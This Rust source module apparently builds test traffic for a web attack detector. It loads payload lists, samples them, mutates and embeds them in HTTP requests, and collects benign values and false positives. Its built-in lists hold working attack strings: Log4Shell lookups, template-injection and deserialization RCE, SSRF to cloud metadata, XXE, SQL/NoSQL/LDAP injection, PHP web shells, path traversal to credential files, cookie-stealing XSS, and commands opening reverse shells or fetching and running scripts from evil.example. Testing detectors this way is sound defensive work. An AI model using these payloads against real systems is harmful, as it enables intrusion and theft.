//! Payloads: from the lists of `shared/data`, and our own where the lists have none.

use std::path::Path;

use super::crs;
use super::dice::{Dice, Half};
use super::exploits;
use super::mutate::{Kind, mutate};
use super::place::place;

/// One payload and where it comes from.
pub struct Payload {
    pub source: String,
    pub kind: Kind,
    pub text: Vec<u8>,
}

/// Lists of hosts, names of files and headers, links, single characters and lines of longer payloads: no attack by
/// themselves.
const NO_PAYLOADS: &[&str] = &[
    "event_handlers",
    "MarioXSSVectors",
    "XSSDetection",
    "LDAP_FUZZ",
    "xml-attacks",
    "XXE_Fuzzing",
    "LICENSE",
    "Open_Redirect",
    "Web_Cache",
    "Insecure_Management",
    "jsonp_endpoint",
    "LDAP_attributes",
    "List_Of_File_To_Include",
    "Web-files",
    "swf_fuzz",
    "Generic_Fuzz",
];
/// Lines taken from one list at most, evenly spread, so that the long lists do not outweigh the others.
const PER_LIST: usize = 400;

/// What the lists lack.
const OWN: &[(Kind, &[&str])] = &[
    (
        Kind::Template,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://x.evil.example/a}",
            "${jndi:dns://${env:AWS_SECRET}.evil.example}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://1.2.3.4/x}",
            "${jndi:${lower:l}${lower:d}a${lower:p}://127.0.0.1#evil.example/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil/a}",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{7*'7'}}",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{{x()}}{% endfor %}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
            "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
            "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
            "{php}echo `id`;{/php}",
            "{{constructor.constructor('return process')()}}",
            "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "${@print(system('id'))}",
            "{{[]|map('system')|join}}",
            "{{['id']|filter('system')}}",
            "[[${7*7}]]",
            "@(1+2)",
            "{system('ls')}",
            "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
            "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/x')}",
            "${url:UTF-8:http://evil.example/}",
            "#{T(java.lang.System).getenv()}",
            "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
            "{{lipsum.__globals__['os'].popen('id').read()}}",
            "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
        ],
    ),
    (
        Kind::Remote,
        &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://100.100.100.200/latest/meta-data/",
            "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall",
            "dict://127.0.0.1:11211/stats",
            "http://127.0.0.1:22/",
            "http://[::1]:80/admin",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://0177.0.0.1/",
            "http://127.1/",
            "http://localhost:8080/manager/html",
            "file:///etc/passwd",
            "ldap://127.0.0.1:389/%0astats",
            "http://0.0.0.0:6379/",
            "http://127.0.0.1.nip.io/",
            "http://[::ffff:127.0.0.1]/",
            "http://a@127.0.0.1:80@evil.example/",
            "jar:http://127.0.0.1!/a",
            "http://192.168.0.1/admin",
            "http://10.0.0.1:8500/v1/agent/self",
            "sftp://evil.example:11111/",
            "tftp://evil.example:12346/x",
            "http://169.254.169.254.xip.io/",
            "http://①②⑦.⓪.⓪.①/",
            "http://evil.example/shell.txt?",
            "https://evil.example/c99.php?cmd=id",
            "http://evil.example/r57.txt%00",
            "\\\\evil.example\\share\\x.php",
            "ftp://evil.example/x.php",
        ],
    ),
    (
        Kind::Xml,
        &[
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % sp SYSTEM \"http://evil.example/x.dtd\">%sp;]><r>x</r>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:value-of select=\"system-property('xsl:vendor')\"/></xsl:template></xsl:stylesheet>",
            "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.4\" class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header></soapenv:Envelope>",
            "<java.util.PriorityQueue serialization='unserializable-parents'><default><size>2</size></default><dynamic-proxy><handler class='java.beans.EventHandler'><target class='java.lang.ProcessBuilder'><command><string>id</string></command></target></handler></dynamic-proxy></java.util.PriorityQueue>",
            "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>",
            "<user><name>x' or '1'='1</name></user>",
            "<user><id>1 union select password from users--</id></user>",
            "<a><b><![CDATA[<script>alert(1)</script>]]></b></a>",
            "<methodCall><methodName>system.multicall</methodName><params><param><value><string>'; cat /etc/passwd #</string></value></param></params></methodCall>",
        ],
    ),
    (
        Kind::Query,
        &[
            "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}",
            "{\"user\":{\"$gt\":\"\"},\"pass\":{\"$gt\":\"\"}}",
            "{\"$where\":\"sleep(5000)\"}",
            "{\"id\":{\"$regex\":\"^a\"},\"$or\":[{},{\"a\":\"a\"}]}",
            "'; return true; var x='",
            "' || 'a'=='a",
            "1; return db.version()",
            "';sleep(5000);'",
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "*)(objectClass=*",
            "admin*)((|userpassword=*)",
            "x)(|(cn=*",
            "' or '1'='1' or ''='",
            "'] | //user/*[contains(*,'",
            "' or count(/*)=1 or '1'='2",
            "x' or name()='username' or 'x'='y",
            "') or string-length(//user[1]/password)=8 or ('",
            "\"] | //* | //*[\"",
            "{\"query\":\"query{__schema{types{name fields{name}}}}\"}",
            "{\"query\":\"{a:user{id}b:user{id}c:user{id}d:user{id}e:user{id}f:user{id}g:user{id}h:user{id}i:user{id}j:user{id}k:user{id}l:user{id}m:user{id}n:user{id}o:user{id}p:user{id}q:user{id}r:user{id}s:user{id}t:user{id}u:user{id}v:user{id}}\"}",
            "{\"query\":\"{u(id:\\\"1' or '1'='1\\\"){n}}\"}",
            "{\"__proto__\":{\"isAdmin\":true}}",
            "{\"constructor\":{\"prototype\":{\"x\":1}}}",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/x\",\"autoCommit\":true}",
            "{\"a\":{\"@type\":\"java.lang.AutoCloseable\",\"@type\":\"java.io.FileOutputStream\"}}",
        ],
    ),
    (
        Kind::Code,
        &[
            "<?php system($_GET['c']); ?>",
            "<?php @eval($_POST['x']);?>",
            "<?= `$_GET[0]` ?>",
            "phpinfo();",
            "system('cat /etc/passwd');",
            "assert(base64_decode('c3lzdGVtKCdpZCcp'))",
            "${@phpinfo()}",
            "';phpinfo();//",
            "O:8:\"stdClass\":1:{s:4:\"exec\";s:2:\"id\";}",
            "O:21:\"JDatabaseDriverMysqli\":3:{s:4:\"\\0\\0\\0a\";O:17:\"JSimplepieFactory\":0:{}}",
            "a:1:{i:0;O:7:\"Example\":1:{s:3:\"cmd\";s:2:\"id\";}}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
            "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMA==",
            "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
            "__import__('os').system('id')",
            "eval(compile('import os','x','exec'))",
            "os.system('id')",
            "require('child_process').exec('id')",
            "process.mainModule.require('fs').readFileSync('/etc/passwd')",
            "new java.lang.ProcessBuilder(\"id\").start()",
            "Runtime.getRuntime().exec(\"id\")",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')",
            "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
            "!!python/object/apply:os.system [\"id\"]",
            "<%eval request(\"x\")%>",
            "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
            "<!--#exec cmd=\"id\" -->",
            "<jsp:scriptlet>Runtime.getRuntime().exec(\"id\")</jsp:scriptlet>",
            "index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
            "1;fwrite(fopen('x.php','w'),'x')",
            "file_put_contents('a.php','<?php 1;')",
            "System.Diagnostics.Process.Start(\"cmd.exe\")",
            "Kernel.exec('id')",
            "%x(id)",
            "eval(String.fromCharCode(97))",
            "-1+print(md5(1))+1",
        ],
    ),
    (
        Kind::Command,
        &[
            "; wget http://evil.example/x.sh -O- | sh",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "`curl http://evil.example/$(whoami)`",
            "$(sleep 5)",
            "127.0.0.1 && cat /etc/passwd",
            "127.0.0.1;cat${IFS}/etc/passwd",
            "a\nid\n",
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "|| ping -c 10 127.0.0.1 ||",
            "{cat,/etc/passwd}",
            ";c\\at /e?c/pas*",
            "$(printf '\\x69\\x64')",
            "() { :;}; /bin/bash -c 'id'",
            "& net user hacker P@ss /add &",
            "| powershell -nop -w hidden -enc SQBFAFgA",
            "; python3 -c 'import os;os.system(\"id\")'",
            ";perl -e 'print 1'",
            "%0aid%0a",
            "1|echo${IFS}aGk=|base64${IFS}-d|sh",
            "x;{echo,aWQ=}|{base64,-d}|bash",
            "1 & dir c:\\",
            "`id`",
            "|id",
            "; nslookup evil.example",
            "';$(id);'",
            "a;rm -rf /tmp/x",
            ";wh$()oami",
            "/bin/cat /etc/passwd",
            "; cd /tmp; busybox wget http://1.2.3.4/bins/mips; chmod 777 mips; ./mips",
            "$(busybox wget http://1.2.3.4/a)",
        ],
    ),
    (
        Kind::Path,
        &[
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//etc/passwd",
            "/etc/passwd",
            "/proc/self/environ",
            "php://filter/convert.base64-encode/resource=index",
            "..%252f..%252fetc/passwd",
            "/WEB-INF/web.xml",
            "..;/manager/html",
            "/../../../../../../boot.ini",
            "../../../../var/log/apache2/access.log%00",
            "/root/.ssh/id_rsa",
            "..%c0%af..%c0%afetc/passwd",
            "file:///c:/windows/win.ini",
            "/.env",
            "/.git/config",
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
            "../WEB-INF/classes/application.yml",
            "expect://id",
            "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
            "zip://x.jpg#a.php",
            "../../../../../../../proc/self/cmdline",
        ],
    ),
    (
        Kind::Sql,
        &[
            "1' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)-- -",
            "1 and extractvalue(1,concat(0x7e,(select user())))",
            "admin' or 1=1#",
            "1' union select null,table_name from information_schema.tables--",
            "1;waitfor delay '0:0:5'--",
            "1) and 1=cast((select version()) as int)--",
            "1' and sleep(5) and '1'='1",
            "1 or (select ascii(substr(password,1,1)) from users limit 1)>64",
            "-1' union all select 1,load_file('/etc/passwd'),3#",
            "1 rlike (select (case when (1=1) then 1 else 0x28 end))",
            "' || pg_sleep(5)--",
            "1'/**/or/**/'1'='1",
            "1' or 1 in (select @@version)--",
            "(select(0)from(select(sleep(15)))v)",
            "if(now()=sysdate(),sleep(15),0)",
            "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
            "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
            "'; exec master..xp_cmdshell 'dir' --",
            "1' order by 10-- -",
            "1 and 1=2 union select 1,2,group_concat(schema_name) from information_schema.schemata",
            "'+(select top 1 name from sysobjects)+'",
            "1 having 1=1",
            "desc,(select case when 1=1 then 1 else 1/0 end)",
            "id,extractvalue(1,concat(0x7e,user()))",
            "1^(ascii(mid(user(),1,1))>1)",
            "updatexml(1,concat(0x7e,database()),1)",
            "1 div 0 or 1",
            "x' and 1=(select 1 from dual where 1=1)--",
            "1'||utl_http.request('http://evil.example')||'",
            "1'; declare @q varchar(99); exec(@q)--",
            "1';copy (select '') to program 'id'--",
        ],
    ),
    (
        Kind::Script,
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.cookie)>",
            "\"><svg/onload=prompt(1)>",
            "javascript:alert(1)",
            "'-alert(1)-'",
            "</script><script>confirm(1)</script>",
            "<iframe src=javascript:alert(1)>",
            "<a href=\"javas&#99;ript:alert(1)\">x</a>",
            "<details open ontoggle=alert(1)>",
            "\" autofocus onfocus=alert(1) x=\"",
            "<body onpageshow=alert(1)>",
            "<script src=//evil.example/x.js></script>",
            "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
            "';document.location='http://evil.example/?'+document.cookie;//",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<input onfocus=eval(atob('YWxlcnQoMSk=')) autofocus>",
            "<object data=javascript:alert(1)>",
            "`-import('//evil.example')-`",
            "<form action=javascript:alert(1)><button>x",
            "<script>fetch('//evil.example/'+document.cookie)</script>",
            "<img src=x:x onerror=window['al'+'ert'](1)>",
            "<x onpointerenter=alert`1`>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<style>@import'//evil.example/x.css';</style>",
            "<video><source onerror=alert(1)>",
            "<marquee onstart=alert(1)>",
            "{{$on.constructor('alert(1)')()}}",
            "<a href=data:text/html,<script>alert(1)</script>>x</a>",
            "<script>new Image().src='http://evil.example/c='+document.cookie</script>",
        ],
    ),
];

/// Reads every list under `data`.
pub fn load(data: &Path) -> Vec<Payload> {
    let mut all = Vec::new();
    for (kind, texts) in OWN {
        for text in *texts {
            all.push(Payload {
                source: format!("own-{}", kind.name()),
                kind: *kind,
                text: text.as_bytes().to_vec(),
            });
        }
    }
    all.extend(exploits::payloads());
    for folder in ["attacks/payloads", "attacks/libinjection"] {
        for path in files(&data.join(folder), "txt") {
            let name = path
                .file_stem()
                .unwrap_or_default()
                .to_string_lossy()
                .into_owned();
            if NO_PAYLOADS.iter().any(|skip| name.contains(skip)) || name.starts_with("false") {
                continue;
            }
            let Some(kind) = kind_of(&name) else { continue };
            let lines = lines(&path);
            let step = lines.len().div_ceil(PER_LIST).max(1);
            for line in lines.into_iter().step_by(step) {
                // The samples of libinjection stand as in a query.
                let text = if folder.ends_with("libinjection") {
                    unquote(&line)
                } else {
                    line
                };
                all.push(Payload {
                    source: name
                        .replace("__Intruder", "")
                        .replace("s__", "_")
                        .to_lowercase(),
                    kind,
                    text,
                });
            }
        }
    }
    let table = std::fs::read(data.join("attacks/httpparams/payload_full.csv")).unwrap_or_default();
    let rows: Vec<_> = csv(&table)
        .into_iter()
        .skip(1)
        .filter(|row| row.len() == 4 && row[3] == b"anom")
        .collect();
    for row in rows.iter().step_by(8) {
        let kind = match row[2].as_slice() {
            b"sqli" => Kind::Sql,
            b"xss" => Kind::Script,
            b"cmdi" => Kind::Command,
            b"path-traversal" => Kind::Path,
            _ => continue,
        };
        all.push(Payload {
            source: format!("httpparams-{}", kind.name()),
            kind,
            text: row[0].clone(),
        });
    }
    all.retain(|payload| !payload.text.is_empty());
    all
}

/// Ordinary values of the labelled parameters, and strings that only look like attacks.
pub fn ordinary_values(data: &Path) -> Vec<Vec<u8>> {
    let table = std::fs::read(data.join("attacks/httpparams/payload_full.csv")).unwrap_or_default();
    let mut all: Vec<_> = csv(&table)
        .into_iter()
        .skip(1)
        .filter(|row| row.len() == 4 && row[3] == b"norm")
        .step_by(10)
        .map(|row| row[0].clone())
        .collect();
    all.extend(
        lines(&data.join("attacks/libinjection/false_positives.txt"))
            .iter()
            .map(|line| unquote(line)),
    );
    all
}

/// Makes requests of one half: the request, its source, its place and its disguise.
pub fn requests(
    data: &Path,
    half: Half,
    per_payload: usize,
    dice: &mut Dice,
    mut each: impl FnMut(&str, &[u8]),
) {
    for payload in load(data)
        .iter()
        .filter(|payload| Half::of(&payload.text) == half)
    {
        for _ in 0..per_payload {
            let (text, disguise) = mutate(&payload.text, payload.kind, dice);
            let (request, spot) = place(&text, payload.kind, dice);
            each(
                &format!("{}-{spot}-{disguise}", payload.source),
                &request.bytes(),
            );
        }
    }
    for (name, bytes) in crs::attacks(data) {
        if Half::of(&bytes) == half {
            each(&format!("crs-{name}-raw-plain"), &bytes);
        }
    }
    for (kind, bytes) in exploits::requests(dice) {
        if Half::of(&bytes) == half {
            each(&format!("exploit-{kind}-raw-plain"), &bytes);
        }
    }
}

fn kind_of(name: &str) -> Option<Kind> {
    let lower = name.to_lowercase();
    Some(match () {
        () if lower.starts_with("sql") => Kind::Sql,
        () if lower.starts_with("xss") => Kind::Script,
        () if lower.starts_with("command") => Kind::Command,
        () if lower.starts_with("directory") || lower.starts_with("file") => Kind::Path,
        () if lower.starts_with("nosql") || lower.starts_with("ldap") => Kind::Query,
        () if lower.starts_with("xxe") => Kind::Xml,
        () => return None,
    })
}

pub fn files(folder: &Path, extension: &str) -> Vec<std::path::PathBuf> {
    let mut all = Vec::new();
    let mut open = vec![folder.to_path_buf()];
    while let Some(folder) = open.pop() {
        for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                open.push(path);
            } else if extension.is_empty() || path.extension().is_some_and(|e| e == extension) {
                all.push(path);
            }
        }
    }
    all.sort();
    all
}

fn lines(path: &Path) -> Vec<Vec<u8>> {
    std::fs::read(path)
        .unwrap_or_default()
        .split(|&b| b == b'\n')
        .map(|line| line.trim_ascii().to_vec())
        .filter(|line| !line.is_empty() && !line.starts_with(b"# ") && line != b"#")
        .collect()
}

pub fn unquote(line: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(line.len());
    let mut rest = line;
    while let [b, tail @ ..] = rest {
        rest = tail;
        out.push(match (*b, tail) {
            (b'%', [high, low, after @ ..])
                if high.is_ascii_hexdigit() && low.is_ascii_hexdigit() =>
            {
                rest = after;
                let digits = [*high, *low];
                u8::from_str_radix(std::str::from_utf8(&digits).unwrap_or_default(), 16)
                    .unwrap_or(b'%')
            }
            (b'+', _) => b' ',
            (b, _) => b,
        });
    }
    out
}

fn csv(bytes: &[u8]) -> Vec<Vec<Vec<u8>>> {
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), Vec::new());
    let mut quoted = false;
    let mut bytes = bytes.iter().copied().peekable();
    while let Some(b) = bytes.next() {
        match b {
            b'"' if quoted && bytes.peek() == Some(&b'"') => {
                field.push(b'"');
                bytes.next();
            }
            b'"' => quoted = !quoted,
            b',' if !quoted => row.push(std::mem::take(&mut field)),
            b'\n' if !quoted => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            b'\r' if !quoted => {}
            b => field.push(b),
        }
    }
    rows
}
